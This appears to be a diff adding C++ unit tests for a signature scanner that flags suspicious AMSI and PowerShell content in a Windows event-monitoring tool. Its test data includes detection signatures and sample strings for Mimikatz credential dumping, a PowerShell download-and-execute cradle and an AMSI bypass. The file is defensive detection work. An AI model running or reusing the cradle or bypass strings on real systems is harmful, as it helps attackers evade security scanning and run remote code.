@@ -0,0 +1,213 @@
+/// @file content_scanner_test.cpp
+/// @brief Tests for signature scanning of AMSI and script content on pool workers.
+
+#include <gtest/gtest.h>
+
+#include "exeray/arena.hpp"
+#include "exeray/etw/content_scanner.hpp"
+#include "exeray/event/extensions.hpp"
+#include "exeray/event/graph.hpp"
+#include "exeray/event/string_pool.hpp"
+#include "exeray/thread_pool.hpp"
+
+#include <cstdint>
+#include <functional>
+#include <string>
+#include <string_view>
+#include <thread>
+#include <utility>
+#include <vector>
+
+namespace exeray::etw {
+namespace {
+
+using event::Category;
+using event::EventId;
+using event::Status;
+
+constexpr auto kScan = static_cast<std::uint8_t>(event::AmsiOp::Scan);
+constexpr auto kExecute = static_cast<std::uint8_t>(event::ScriptOp::Execute);
+
+std::vector<ContentSignature> signatures() {
+    return {
+        {"mimikatz", {"sekurlsa::logonpasswords", "privilege::debug"}, 1},
+        {"cradle", {"Net.WebClient", "DownloadString", "IEX"}, 0},
+        {"amsi_bypass", {"AmsiUtils", "amsiInitFailed"}, 2},
+    };
+}
+
+TEST(SignatureSetTest, MatchesIgnoringCaseWithItsCondition) {
+    const SignatureSet set(signatures());
+    ASSERT_EQ(set.size(), 3u);
+
+    EXPECT_EQ(set.match("PRIVILEGE::DEBUG"), (std::vector<std::uint32_t>{0}));
+    // Every string of the cradle, in any order
+    EXPECT_EQ(set.match("iex (new-object net.webclient).downloadstring('x')"),
+              (std::vector<std::uint32_t>{1}));
+    EXPECT_TRUE(set.match("(new-object net.webclient).downloadstring('x')").empty());
+    // Two of two, each occurrence counted once
+    EXPECT_TRUE(set.match("AmsiUtils AmsiUtils").empty());
+    EXPECT_EQ(set.match("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
+                        ".GetField('amsiInitFailed')"),
+              (std::vector<std::uint32_t>{2}));
+    EXPECT_TRUE(set.match("Get-ChildItem").empty());
+    EXPECT_TRUE(set.match("").empty());
+}
+
+TEST(SignatureSetTest, OverlappingAndSharedStrings) {
+    const SignatureSet set({
+        {"he", {"he"}, 0},
+        {"she", {"she"}, 0},
+        {"hers", {"hers", "he"}, 0},
+        {"none", {}, 0},
+    });
+    // "she" ends inside "ushers" where "he" does too; "hers" overlaps both
+    EXPECT_EQ(set.match("ushers"), (std::vector<std::uint32_t>{0, 1, 2}));
+    EXPECT_EQ(set.match("ahe"), (std::vector<std::uint32_t>{0}));
+    EXPECT_TRUE(SignatureSet().empty());
+    EXPECT_TRUE(SignatureSet().match("anything").empty());
+}
+
+class ContentScannerTest : public ::testing::Test {
+protected:
+    Arena arena_{64 * 1024 * 1024};
+    event::StringPool strings_{arena_};
+    event::ExtensionStore extensions_{arena_};
+    event::EventGraph graph_{arena_, strings_, 65536};
+    ThreadPool pool_{4};
+
+    void start(ContentScanner& scanner) {
+        scanner.start(graph_, strings_, extensions_,
+                      [this](std::function<void()> task) { pool_.submit(std::move(task)); });
+    }
+
+    /// @brief Push an AMSI scan the way the consumer does: attach, then push.
+    EventId amsi(ContentScanner& scanner, std::string_view content) {
+        event::EventPayload payload{};
+        payload.category = Category::Amsi;
+        payload.amsi.content = strings_.intern(content);
+        payload.amsi.app_name = event::INVALID_STRING;
+        const Status status = scanner.attach(payload) ? Status::Suspicious : Status::Success;
+        return graph_.push(Category::Amsi, kScan, status, event::INVALID_EVENT, 100, payload);
+    }
+
+    EventId script(ContentScanner& scanner, std::string_view block) {
+        event::EventPayload payload{};
+        payload.category = Category::Script;
+        payload.script.script_block = strings_.intern(block);
+        payload.script.context = event::INVALID_STRING;
+        const Status status = scanner.attach(payload) ? Status::Suspicious : Status::Success;
+        return graph_.push(Category::Script, kExecute, status, event::INVALID_EVENT, 100,
+                           payload);
+    }
+
+    event::ContentVerdictExtension verdict_of(EventId id) {
+        const event::Extension extension = extensions_.get(graph_.get(id).payload().extension);
+        EXPECT_EQ(extension.kind, event::ExtensionKind::ContentVerdict);
+        event::ContentVerdictExtension verdict{};
+        EXPECT_TRUE(extension.read(verdict));
+        return verdict;
+    }
+};
+
+ContentScanConfig config() {
+    ContentScanConfig config;
+    config.enabled = true;
+    config.signatures = signatures();
+    config.workers = 2;
+    return config;
+}
+
+TEST_F(ContentScannerTest, EveryEventGetsTheVerdictOfItsContent) {
+    ContentScanner scanner(config());
+    start(scanner);
+
+    std::vector<EventId> bad;
+    std::vector<EventId> good;
+    for (int i = 0; i < 100; ++i) {
+        bad.push_back(amsi(scanner, "privilege::debug sekurlsa::logonpasswords"));
+        good.push_back(script(scanner, "Get-Process | Sort-Object CPU"));
+    }
+    scanner.stop();
+
+    for (const EventId id : bad) {
+        const event::ContentVerdictExtension verdict = verdict_of(id);
+        EXPECT_EQ(verdict.matches, 1u);
+        EXPECT_EQ(verdict.first, 0u);
+        EXPECT_EQ(verdict.signatures, 1u);
+        EXPECT_EQ(graph_.get(id).status(), Status::Suspicious);
+    }
+    for (const EventId id : good) {
+        EXPECT_EQ(verdict_of(id).matches, 0u);
+        EXPECT_EQ(graph_.get(id).status(), Status::Success);
+    }
+    // One record per content, shared by its events
+    EXPECT_EQ(graph_.get(bad.front()).payload().extension,
+              graph_.get(bad.back()).payload().extension);
+
+    const ContentScanStats stats = scanner.stats();
+    EXPECT_EQ(stats.contents, 2u);
+    EXPECT_EQ(stats.scanned, 2u);
+    EXPECT_EQ(stats.matched, 1u);
+    EXPECT_EQ(stats.attached + stats.backfilled, 200u);
+}
+
+TEST_F(ContentScannerTest, VerdictsByHashOutliveTheSession) {
+    constexpr std::string_view kCradle =
+        "IEX (New-Object Net.WebClient).DownloadString('http://x')";
+    ContentScanner scanner(config());
+    start(scanner);
+    amsi(scanner, kCradle);
+    scanner.stop();
+    EXPECT_EQ(scanner.stats().scanned, 1u);
+
+    start(scanner);  // New session: the content is looked up by hash, not scanned
+    const EventId first = amsi(scanner, kCradle);
+    while (scanner.verdict(graph_.get(first).payload().amsi.content) == event::NO_EXTENSION) {
+        std::this_thread::yield();
+    }
+    // Known once resolved: the next event is marked before the push
+    const EventId second = amsi(scanner, kCradle);
+    scanner.stop();
+
+    EXPECT_EQ(graph_.get(second).status(), Status::Suspicious);
+    EXPECT_NE(graph_.get(second).payload().extension, event::NO_EXTENSION);
+    EXPECT_EQ(graph_.get(first).status(), Status::Suspicious);
+    const ContentScanStats stats = scanner.stats();
+    EXPECT_EQ(stats.scanned, 0u);
+    EXPECT_EQ(stats.cached, 1u);
+    EXPECT_GE(stats.attached, 1u);
+}
+
+TEST_F(ContentScannerTest, ContentBeyondTheBudgetIsSkipped) {
+    ContentScanConfig small = config();
+    small.memory_budget = 16;
+    ContentScanner scanner(small);
+    start(scanner);
+    const EventId big = amsi(scanner, std::string(64, 'x') + "privilege::debug");
+    scanner.stop();
+
+    EXPECT_EQ(graph_.get(big).payload().extension, event::NO_EXTENSION);
+    EXPECT_EQ(graph_.get(big).status(), Status::Success);
+    EXPECT_EQ(scanner.stats().skipped, 1u);
+    EXPECT_EQ(scanner.stats().scanned, 0u);
+}
+
+TEST_F(ContentScannerTest, IdleWithoutSignaturesOrStart) {
+    ContentScanner stopped(config());
+    EXPECT_FALSE(stopped.running());
+    amsi(stopped, "privilege::debug");
+    EXPECT_EQ(stopped.stats().contents, 0u);
+
+    ContentScanConfig bare = config();
+    bare.signatures.clear();
+    ContentScanner scanner(bare);
+    start(scanner);
+    const EventId id = amsi(scanner, "privilege::debug");
+    scanner.stop();
+    EXPECT_EQ(graph_.get(id).payload().extension, event::NO_EXTENSION);
+    EXPECT_EQ(scanner.stats().contents, 0u);
+}
+
+}  // namespace
+}  // namespace exeray::etw